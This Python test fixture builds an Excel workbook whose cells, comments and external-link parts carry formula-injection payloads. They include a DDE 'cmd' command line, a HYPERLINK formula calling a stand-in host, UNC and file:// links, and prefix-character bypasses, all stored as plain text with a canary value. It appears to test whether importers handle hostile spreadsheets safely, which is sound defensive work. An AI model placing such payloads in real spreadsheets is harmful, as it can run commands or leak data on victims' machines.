"""A workbook in which everything that can lead outside does: names, comments, links, formulas, parts of its own."""

from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl

CANARY = "canary-489-jane-doe"
ADDRESS = "203.0.113.7"  # of a network for examples: nobody is there
COMMANDS = (
    f"=HYPERLINK(\"http://{ADDRESS}/{CANARY}\",\"x\")",
    f"=cmd|' /C {CANARY}'!A0",
    f"+{CANARY}",
    f"-{CANARY}",
    f"@SUM(1)*{CANARY}",
    f"\t={CANARY}",
    f"\u00a0={CANARY}",
    f"\ufeff={CANARY}",
    f"＝{CANARY}",
    f"file://{ADDRESS}/share/{CANARY}",
    f"\\\\{ADDRESS}\\share\\{CANARY}",
    f"internal:'{CANARY}'!A1",
    f"{{={CANARY}}}",
    f"<img src='file://{ADDRESS}/{CANARY}.png'>",
)  # fmt: skip


def hostile(path: Path) -> Path:
    """Figures that are read, under words that are all commands or links; written to `path`."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    sheets: dict[str, list[Any]] = {
        "Indicators": [
            ["Code", "Section", "Name", "Responsible officer", "Measure", "Unit", "Value period", "Guide"],
            *[[str(at), *_others(at, 3), "N/A", "count", "month", words] for at, words in enumerate(COMMANDS, 1)],
        ],
        "Figures": [
            ["Code", "Month", "Value", "Comment"],
            *[[str(at), "2014-08", 489 + at, words] for at, words in enumerate(COMMANDS, 1)],
            ["1", "2014-07", -3, COMMANDS[0]],
            ["2", "2014-07", COMMANDS[1], COMMANDS[2]],
        ],
        "Report": [["Title", COMMANDS[0]], ["Council", COMMANDS[1]], ["Contact name", COMMANDS[9]]],
        "Events": [["Month", "Code", "What happened"], ["2014-05", "1", COMMANDS[0]]],
    }
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for at, row in enumerate(rows, 1):
            for column, value in enumerate(row, 1):
                cell = sheet.cell(at, column, value)
                if isinstance(value, str):
                    cell.data_type = "s"  # words, though they begin like a formula
    book.save(path)
    return _with_links(path)


def _others(at: int, many: int) -> list[str]:
    return [COMMANDS[(at + step) % len(COMMANDS)] for step in range(many)]


def _with_links(path: Path) -> Path:
    """A link to another workbook and a link of a cell, as parts that the file itself names."""
    with ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'externalLinkPath" Target="file://{ADDRESS}/{CANARY}.xlsx" TargetMode="External"/></Relationships>'
    )
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = relations.encode()
    with ZipFile(path, "w", ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return path
